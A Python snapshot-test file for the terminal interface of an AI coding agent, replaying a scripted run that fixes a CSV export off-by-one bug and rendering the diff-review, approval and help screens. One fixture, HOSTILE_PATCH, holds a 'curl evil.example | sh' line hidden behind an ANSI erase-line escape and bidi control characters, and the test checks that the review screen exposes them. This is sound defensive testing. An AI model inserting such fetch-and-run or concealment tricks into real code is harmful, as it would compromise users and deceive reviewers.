"""SVG snapshots of the main screens, fed a fixed event stream (update with `pytest --snapshot-update`)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from textual.widgets import Input

from coder.agent import Agent
from coder.config import Config
from coder.events import (ApprovalRequested, FileEdited, ModelReplied, PlanUpdated, RunFinished, RunStarted, TestsRan,
                          TextStreamed, ToolFinished, ToolStarted)
from coder.sandboxes.local import LocalSandbox
from coder.testing import ScriptedModel
from coder.tui.app import CoderApp, TuiDeps
from coder.tui.bridge import AgentBridge, Idle, PatchChanged
from coder.tui.diff_review import DiffReviewScreen
from coder.tui.modals import ApprovalScreen

REPO = Path("/home/dev/csvexport")
PATCH = """\
diff --git a/csvexport/writer.py b/csvexport/writer.py
index 1111111..2222222 100644
--- a/csvexport/writer.py
+++ b/csvexport/writer.py
@@ -12,7 +12,7 @@ def export(rows, out):
     writer = csv.writer(out)
     writer.writerow(HEADER)
-    for i in range(len(rows) - 1):
+    for i in range(len(rows)):
         writer.writerow(rows[i])
     return len(rows)
 
@@ -30,4 +30,4 @@ def header_line():
 def footer(count):
-    return f"{count} rows"
+    return f"{count} rows exported"
"""
RUN = [
    RunStarted("20261123-101500-abc123", "the CSV export drops the last row", "qwen2.5-coder-1.5b", "docker", str(REPO)),
    TestsRan("baseline", "pytest", "python -m pytest", 7, 1, 0, 0),
    TextStreamed(1, "Plan:\n1. Find the CSV export code\n2. Fix the loop that skips the last row\n3. Run the tests"),
    ModelReplied(1, "Plan:\n1. Find the CSV export code\n2. Fix the loop that skips the last row\n3. Run the tests",
                 (), 5200, 40, 0, 9.1),
    PlanUpdated(("Find the CSV export code", "Fix the loop that skips the last row", "Run the tests"), 1),
    ToolStarted(1, "c1", "grep", {"pattern": "range(len(rows)"}),
    ToolFinished(1, "c1", "grep", True, "csvexport/writer.py:14:    for i in range(len(rows) - 1):", 0.01),
    ModelReplied(2, "", (), 5320, 60, 5200, 2.3),
    ToolStarted(2, "c2", "edit_file", {"path": "csvexport/writer.py", "command": "replace",
                                       "old": "range(len(rows) - 1)", "new": "range(len(rows))"}),
    ToolFinished(2, "c2", "edit_file", True, "Edited csvexport/writer.py (1 line changed)", 0.0),
    FileEdited(2, "csvexport/writer.py", "-    for i in range(len(rows) - 1):\n+    for i in range(len(rows)):\n"),
    ModelReplied(3, "", (), 5450, 20, 5320, 1.1),
    ToolStarted(3, "c3", "run_tests", {}),
    ToolFinished(3, "c3", "run_tests", True, "8 passed, 0 failed, 0 errors, 0 skipped", 0.41),
    TestsRan("final", "pytest", "python -m pytest", 8, 0, 0, 0),
    RunFinished("resolved", "submitted and all tests pass", PATCH, 4, 14.2, 21420, 140, 15970,
                ("tests/test_writer.py::test_export_keeps_last_row",)),
    PatchChanged(PATCH),
    Idle(),
]


def make_app() -> CoderApp:
    agent = Agent(ScriptedModel([]), LocalSandbox(), Config())
    bridge = AgentBridge(agent, REPO)
    return CoderApp(TuiDeps(bridge, REPO, "qwen2.5-coder-1.5b", "docker", clock=lambda: 0.0))


async def after_run(pilot: Any) -> None:
    app = pilot.app
    app.query_one(Input).cursor_blink = False
    app.task_title = "the CSV export drops the last row"
    for item in RUN:
        app.handle(item)
    await pilot.pause()


def test_main_screen_after_a_run(snap_compare: Any) -> None:
    assert snap_compare(make_app(), terminal_size=(100, 30), run_before=after_run)


def test_main_screen_at_80x24(snap_compare: Any) -> None:
    assert snap_compare(make_app(), terminal_size=(80, 24), run_before=after_run)


def test_diff_review(snap_compare: Any) -> None:
    async def review(pilot: Any) -> None:
        await after_run(pilot)
        await pilot.app.push_screen(DiffReviewScreen(PATCH, REPO, "the CSV export drops the last row"))
        await pilot.press("a")  # accept the fix; the cosmetic change stays pending
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(100, 30), run_before=review)


def test_approval_modal(snap_compare: Any) -> None:
    async def ask(pilot: Any) -> None:
        await after_run(pilot)
        request = ApprovalRequested(5, "c5", "bash", {"command": "rm -rf build && make"},
                                    "runs a shell command: rm -rf build && make")
        await pilot.app.push_screen(ApprovalScreen(request))
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(100, 30), run_before=ask)


def test_help_screen(snap_compare: Any) -> None:
    async def show_help(pilot: Any) -> None:
        pilot.app.query_one(Input).cursor_blink = False
        pilot.app.action_help()
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(80, 24), run_before=show_help)


HOSTILE_PATCH = """\
diff --git a/csvexport/__init__.py b/csvexport/__init__.py
index 1111111..2222222 100644
--- a/csvexport/__init__.py
+++ b/csvexport/__init__.py
@@ -1 +1,3 @@
 from .writer import export
+import os; os.system("curl evil.example | sh")\x1b[2K\r# tidy imports
+ACCESS = "user\u202e \u2066// admin\u2069 \u2066"
diff --git a/[bold]logo[/bold].png b/[bold]logo[/bold].png
index 20b5be9..1131663 100644
GIT binary patch
literal 6
NcmYdfNM>YW1^@%%0LuUX

literal 3
KcmYdfNCE%>hycU@

"""


def test_diff_review_shows_hidden_text_and_binary_changes(snap_compare: Any) -> None:
    """An ESC sequence that erased its line, bidi controls, markup in a file name, and a binary hunk, all visible."""
    async def review(pilot: Any) -> None:
        pilot.app.query_one(Input).cursor_blink = False
        await pilot.app.push_screen(DiffReviewScreen(HOSTILE_PATCH, REPO, "tidy imports"))
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=(100, 24), run_before=review)
